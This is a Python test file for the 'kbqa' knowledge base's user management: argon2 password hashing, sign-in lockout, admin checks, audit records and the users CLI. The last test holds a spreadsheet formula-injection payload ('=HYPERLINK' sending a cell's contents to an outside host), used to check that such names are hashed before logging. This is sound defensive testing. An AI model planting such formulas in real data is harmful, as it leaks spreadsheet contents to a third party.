"""Users and groups on real SQLite and PostgreSQL, argon2 password hashes, and ``kbqa users``."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import text

from kbqa import AccessDeniedError, ConfigError, KnowledgeBase, Settings
from kbqa.users import MAX_FAILED_SIGN_INS, unknown_actor

KBQA = str(Path(sys.executable).parent / "kbqa")


@pytest.fixture
def kb(db_url, tmp_path):
    database_url = None if db_url.startswith("sqlite") else db_url
    base = KnowledgeBase(settings=Settings(data_dir=tmp_path / "kb", database_url=database_url))
    yield base
    base.store.engine.dispose()


def test_users_are_added_changed_and_removed(kb):
    users = kb.users
    alice = users.add("Alice", groups=["hr", " finance ", "hr"], password="correct horse")
    assert (alice.name, alice.groups, alice.is_admin, alice.has_password) == (
        "alice", {"hr", "finance"}, False, True)
    users.add("root.admin", admin=True)
    assert [u.name for u in users.list()] == ["alice", "root.admin"]
    assert users.set_groups("ALICE", ["sales"]).groups == {"sales"}
    assert users.set_admin("alice", True).is_admin
    users.remove("alice")
    assert users.get("alice") is None and [u.name for u in users.list()] == ["root.admin"]
    actions = [(r.payload["action"], r.payload["target"]) for r in kb.audit.records()
               if r.kind == "admin"]
    assert actions == [("user_created", "alice"), ("user_created", "root.admin"),
                       ("groups_changed", "alice"), ("admin_changed", "alice"),
                       ("user_removed", "alice")]


@pytest.mark.parametrize("name", ["", "a b", "x" * 101, "-dash", "名字"])
def test_bad_user_names_are_refused(kb, name):
    with pytest.raises(ConfigError, match="invalid user name"):
        kb.users.add(name)


def test_duplicates_short_passwords_and_missing_users_are_clear_errors(kb):
    kb.users.add("bob")
    with pytest.raises(ConfigError, match="exists already"):
        kb.users.add("BOB")
    with pytest.raises(ConfigError, match="at least 8"):
        kb.users.add("carl", password="short")
    with pytest.raises(ConfigError, match="no user 'nobody'"):
        kb.users.set_groups("nobody", ["x"])
    with pytest.raises(ConfigError, match="invalid group"):
        kb.users.add("dan", groups=[""])


def test_passwords_are_stored_as_argon2_hashes_and_checked(kb):
    kb.users.add("erin", password="s3cret-passphrase")
    with kb.store.engine.connect() as conn:
        stored = conn.execute(text("SELECT password_hash FROM users WHERE name='erin'")).scalar()
    assert stored.startswith("$argon2id$") and "s3cret-passphrase" not in stored
    assert kb.users.authenticate("Erin", "s3cret-passphrase").name == "erin"
    assert kb.users.authenticate("erin", "wrong-passphrase") is None
    assert kb.users.authenticate("ghost", "s3cret-passphrase") is None
    kb.users.set_password("erin", None)
    assert kb.users.authenticate("erin", "s3cret-passphrase") is None  # SSO only now
    denials = [(r.actor, r.payload["action"]) for r in kb.audit.records() if r.kind == "denial"]
    assert denials == [("erin", "sign_in"), (unknown_actor("ghost"), "sign_in"),
                       ("erin", "sign_in")]
    assert "s3cret-passphrase" not in "".join(r.payload_json for r in kb.audit.records())


def test_admin_actions_through_the_api_need_an_admin(kb):
    kb.users.add("root", admin=True)
    kb.users.add("pat", groups=["ops"])
    assert kb.users.add("quinn", groups=["ops"], by="root").groups == {"ops"}
    with pytest.raises(AccessDeniedError, match="not an admin"):
        kb.users.remove("quinn", by="pat")
    records = [r for r in kb.audit.records() if r.kind in ("admin", "denial")]
    assert (records[-2].kind, records[-2].actor) == ("admin", "root")
    assert (records[-1].kind, records[-1].actor, records[-1].payload["reason"]) == (
        "denial", "pat", "not an admin")


def _cli(data_dir: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200"}
    return subprocess.run([KBQA, "--data-dir", str(data_dir), "users", *args], input=stdin,
                          capture_output=True, text=True, env=env, timeout=300, check=False)


def test_cli_manages_users_without_passwords_on_the_command_line(tmp_path):
    data = tmp_path / "kb"
    added = _cli(data, "add", "alice", "--group", "hr", "--group", "it", "--password-stdin",
                 stdin="long enough password\n")
    assert added.returncode == 0, added.stderr
    assert "long enough password" not in added.stdout + added.stderr
    assert _cli(data, "add", "root", "--admin", "--no-password").returncode == 0
    no_tty = _cli(data, "add", "mia", stdin="")  # no terminal to prompt on: a clear error
    assert no_tty.returncode == 1 and "--password-stdin" in no_tty.stderr
    on_argv = _cli(data, "add", "eve", "--password", "hunter22hunter22")
    assert on_argv.returncode == 2  # there is no such option
    generated = _cli(data, "add", "gus", "--generate-password")
    password = generated.stdout.split("(shown once): ")[1].split()[0]
    kb = KnowledgeBase(data)
    assert kb.users.authenticate("gus", password) is not None
    assert kb.users.authenticate("alice", "long enough password").groups == {"hr", "it"}

    assert _cli(data, "set-groups", "alice", "sales").returncode == 0
    listed = json.loads(_cli(data, "list", "--json").stdout)
    assert {u["name"]: u["groups"] for u in listed} == {
        "alice": ["sales"], "gus": [], "root": []}
    assert {u["name"] for u in listed if u["admin"]} == {"root"}
    assert _cli(data, "passwd", "alice", "--password-stdin", stdin="another password\n"
                ).returncode == 0
    assert kb.users.authenticate("alice", "another password") is not None
    assert _cli(data, "remove", "gus").returncode == 0
    missing = _cli(data, "remove", "gus")
    assert missing.returncode == 1 and "no user 'gus'" in missing.stderr
    admin = [r for r in kb.audit.records() if r.kind == "admin"]
    assert len(admin) == 6 and all(r.actor for r in admin)  # the operator's login name


def test_cli_ask_needs_a_registered_user(tmp_path):
    data = tmp_path / "kb"
    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200"}
    env.pop("KBQA_USER", None)
    result = subprocess.run([KBQA, "--data-dir", str(data), "ask", "Where is lunch?", "--no-llm"],
                            capture_output=True, text=True, env=env, timeout=300, check=False)
    assert result.returncode == 1 and "access denied: no user was given" in result.stderr
    result = subprocess.run([KBQA, "--data-dir", str(data), "search", "lunch"],
                            capture_output=True, text=True, env={**env, "KBQA_USER": "nobody"},
                            timeout=300, check=False)
    assert result.returncode == 1 and "'nobody' is not registered" in result.stderr


def test_sign_in_rehashes_old_parameters_and_locks_out_guessing(kb):
    from argon2 import PasswordHasher

    kb.users.add("fay", password="first-passphrase")
    weak = PasswordHasher(time_cost=1, memory_cost=8192, parallelism=1).hash("first-passphrase")
    with kb.store.engine.begin() as conn:
        conn.execute(text("UPDATE users SET password_hash=:h WHERE name='fay'"), {"h": weak})
    assert kb.users.authenticate("fay", "first-passphrase").name == "fay"
    with kb.store.engine.connect() as conn:
        upgraded = conn.execute(text("SELECT password_hash FROM users WHERE name='fay'")).scalar()
    assert upgraded != weak and "m=65536" in upgraded  # the library's current parameters

    for _ in range(MAX_FAILED_SIGN_INS):
        assert kb.users.authenticate("fay", "guess-guess-guess") is None
    assert kb.users.authenticate("fay", "first-passphrase") is None  # locked, even when right
    reasons = [r.payload["reason"] for r in kb.audit.records() if r.kind == "denial"]
    assert reasons[-1].startswith("too many failed sign-ins")


def test_unregistered_sign_in_names_are_recorded_as_hashes(kb):
    hostile = '=HYPERLINK("http://x/?"&E2)'
    assert kb.users.authenticate(hostile, "whatever-password") is None
    denial = [r for r in kb.audit.records() if r.kind == "denial"][-1]
    assert denial.actor == unknown_actor(hostile) and "HYPERLINK" not in denial.payload_json
